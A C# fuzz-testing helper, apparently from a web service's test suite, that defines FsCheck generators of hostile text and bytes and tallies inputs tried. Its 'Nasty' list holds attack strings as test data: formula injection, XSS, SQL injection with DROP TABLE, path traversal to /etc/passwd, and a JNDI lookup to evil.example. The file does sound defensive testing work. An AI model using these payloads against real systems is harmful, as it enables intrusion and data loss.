using System.Collections.Concurrent;
using System.Text;
using FsCheck;
using FsCheck.Fluent;

namespace Flowthrough.Tests.Fuzz;

/// <summary>
/// What every fuzz property shares: the input count (small in CI, <c>FLOWTHROUGH_FUZZ_SCALE</c> times more by hand),
/// the tally of inputs tried per target, and generators of hostile text.
/// </summary>
internal static class Fuzz
{
    /// <summary>Multiplies every property's input count; 1 (the CI size) unless <c>FLOWTHROUGH_FUZZ_SCALE</c> says more.</summary>
    public static int Scale { get; } =
        int.TryParse(Environment.GetEnvironmentVariable("FLOWTHROUGH_FUZZ_SCALE"), out var scale) && scale > 0 ? scale : 1;

    private static readonly ConcurrentDictionary<string, int> Tried = new();

    /// <summary>
    /// Runs <paramref name="property"/> over <paramref name="ciInputs"/> × <see cref="Scale"/> inputs from
    /// <paramref name="gen"/> (no shrinking: an HTTP input is shown whole) and records how many were tried. FsCheck
    /// waits for each input's task; it runs on the thread pool so that the wait can never hold a test's context.
    /// </summary>
    public static Task CheckAsync<T>(string target, int ciInputs, Gen<T> gen, Func<T, Task> property) =>
        Task.Run(() =>
        {
            var tried = 0;
            Prop.ForAll(Arb.From(gen), async (T input) =>
            {
                Interlocked.Increment(ref tried);
                await property(input);
            }).Check(Config.QuickThrowOnFailure.WithMaxTest(ciInputs * Scale).WithQuietOnSuccess(true));
            Report(target, tried);
        });

    public static void Check<T>(string target, int ciInputs, Gen<T> gen, Action<T> property)
    {
        var tried = 0;
        Prop.ForAll(Arb.From(gen), (T input) =>
        {
            tried++;
            property(input);
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(ciInputs * Scale).WithQuietOnSuccess(true));
        Report(target, tried);
    }

    /// <summary>
    /// The tally goes to the test's output and, when <c>FLOWTHROUGH_FUZZ_REPORT</c> names a file, is appended to it
    /// (one "target TAB count" line per property) so that a run's totals can be summed.
    /// </summary>
    public static void Report(string target, int count)
    {
        Tried.AddOrUpdate(target, count, (_, before) => before + count);
        TestContext.Current.TestOutputHelper?.WriteLine($"fuzz {target}: {count} inputs");
        if (Environment.GetEnvironmentVariable("FLOWTHROUGH_FUZZ_REPORT") is { Length: > 0 } file)
        {
            lock (Tried)
            {
                File.AppendAllText(file, $"{target}\t{count}\n");
            }
        }
    }

    /// <summary>Values that broke systems before: injection, encodings, control characters, sizes, numbers as text.</summary>
    public static readonly string[] Nasty =
    [
        "", " ", "  \t ", "\0", "a\0b", "\r\n", "\n", "\t", "\u0001\u0002\u001f\u007f", "\u0085", "\u2028\u2029",
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "' OR '1'='1' --",
        "'; DROP TABLE subscribers; --", "%00", "%0d%0a", "../../../etc/passwd", "..\\..\\windows\\win.ini",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "null", "undefined", "true", "NaN", "-0", "1e309",
        "99999999999999999999999", "-9223372036854775809", "0x7fffffff", "[]", "{}", "\"", "\\", "\\u0000",
        "Żółć gęślą jaźń", "𝕏𝕐ℤ", "👩‍👩‍👧‍👦", "\u202Egnp.exe", "\uFEFFbom", "\u200B", "ｆｕｌｌ＝ｗｉｄｔｈ", "İı", "ß",
        "\uD800", "a\uDC00b", "\uDBFF\uDFFF", "x@y", "a@b.c", "@", "user@@example.com", "a@b@c.example",
        "very.long.local.part.very.long.local.part.very.long.local.part.x@example.com",
        new string('a', 256), new string('ż', 1000), new string('a', 70_000), new string('%', 3000),
    ];

    private static readonly Gen<char> AnyChar = Gen.Choose(0, 0xFFFF).Select(i => (char)i);

    private static readonly Gen<char> ControlChar = Gen.Choose(0, 0x20).Select(i => (char)i);

    /// <summary>Hostile text: the list above, arbitrary UTF-16 (lone surrogates included), control characters, mixes.</summary>
    public static readonly Gen<string> Text = Gen.Frequency(
        (4, Gen.Elements(Nasty)),
        (2, ArbMap.Default.GeneratorFor<string>().Select(s => s ?? "")),
        (2, AnyChar.ArrayOf().Select(chars => new string(chars))),
        (1, ControlChar.ArrayOf().Select(chars => new string(chars))),
        (1, Gen.Elements(Nasty).Two().Select(pair => pair.Item1 + "x" + pair.Item2)),
        (1, Gen.Choose(1, 5000).Select(n => new string('9', n))));

    /// <summary>Hostile text, null or absent: for optional fields.</summary>
    public static readonly Gen<string?> OptionalText = Gen.Frequency(
        (1, Gen.Constant<string?>(null)),
        (5, Text.Select(s => (string?)s)));

    /// <summary>Printable hostile text that survives an HTTP header or URL (percent-encoded where it goes).</summary>
    public static string Escape(string value) => Uri.EscapeDataString(ToWellFormed(value));

    /// <summary>
    /// A path segment: percent-encoded, without NUL (which no server takes in a path: Kestrel answers 400 and the
    /// in-memory test client refuses to send it).
    /// </summary>
    public static string PathSegment(string value) => Escape(value.Replace("\0", "", StringComparison.Ordinal));

    /// <summary>Lone surrogates replaced, as any UTF-8 transport replaces them.</summary>
    public static string ToWellFormed(string value) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(value));

    /// <summary>Random bytes, often starting like JSON so that the parser gets past the first byte.</summary>
    public static readonly Gen<byte[]> Bytes = Gen.Frequency(
        (2, ArbMap.Default.GeneratorFor<byte[]>().Select(b => b ?? [])),
        (1, ArbMap.Default.GeneratorFor<byte[]>().Select(b => (byte[])[(byte)'{', .. b ?? []])),
        (1, Gen.Elements<byte[]>([0xC3, 0x28], [0xFF, 0xFE, 0x7B, 0x00], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
            [0xEF, 0xBB, 0xBF, (byte)'{', (byte)'}'], [0x7B, 0x22, 0xC0, 0xAF, 0x22, 0x3A, 0x31, 0x7D])));
}
